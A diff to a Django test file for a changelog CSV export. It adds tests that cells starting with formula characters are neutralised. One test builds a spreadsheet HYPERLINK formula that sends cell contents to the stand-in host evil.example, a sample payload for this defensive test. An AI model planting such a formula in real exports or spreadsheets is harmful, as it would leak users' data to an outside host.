@@ -9,6 +9,8 @@ from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 
+from stuurwiel.changelog.choices import ChangeSource
+from stuurwiel.changelog.context import change_context
 from stuurwiel.parties import services
 from stuurwiel.parties.models import Team
 
@@ -38,7 +40,7 @@ def test_export_holds_the_filtered_entries_of_the_own_organisation(client_a, org
     assert len(rows) == 1
     [row] = rows
     assert row[1] == "admin-a" and row[3] == "Bijgewerkt" and row[7] == "Loket erbij"
-    assert '"name": "Team Wmo-loket"' in row[9]
+    assert row[8] == "Naam: Team Wmo" and row[9] == "Naam: Team Wmo-loket"
 
 
 def test_export_in_english_uses_commas(client_a, org_a, admin_a):
@@ -73,3 +75,25 @@ def test_export_with_an_invalid_filter_is_refused_not_widened(client_a, org_a, a
     response = client_a.get(EXPORT, {"since": "gisteren"})
     assert response.status_code == 400
     assert "filters zijn niet geldig" in response.content.decode()
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_export_neutralises_cells_that_a_spreadsheet_would_run(client_a, org_a, admin_a, start):
+    name = f'{start}HYPERLINK("http://evil.example/?"&A1,"klik")'
+    with change_context(source=ChangeSource.JOB, actor_name=f"{start}Import"):
+        services.team_create(organisation=org_a, by=None, data={"name": name}, reason=f"{start}1+1")
+    header, row = _rows(client_a.get(EXPORT), ";")
+    assert row[1] == f"'{start}Import (taak)"
+    assert row[6] == f"'{name}"
+    assert row[7] == f"'{start}1+1"
+    assert row[9] == f"Naam: {name}"  # the label leads, so the value cannot start a formula
+    for cell in row:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+def test_export_before_and_after_are_readable_text(client_a, org_a, admin_a):
+    person = services.person_create(organisation=org_a, by=admin_a, data={"name": "Piet Jansen"})
+    team = services.team_create(organisation=org_a, by=admin_a, data={"name": "Team Wmo"})
+    services.team_update(instance=team, by=admin_a, data={"coordinator": person}, version=1)
+    _header, row, *_ = _rows(client_a.get(EXPORT, {"action": "update"}), ";")
+    assert row[8] == "Teamcoördinator: —" and row[9] == "Teamcoördinator: Piet Jansen"
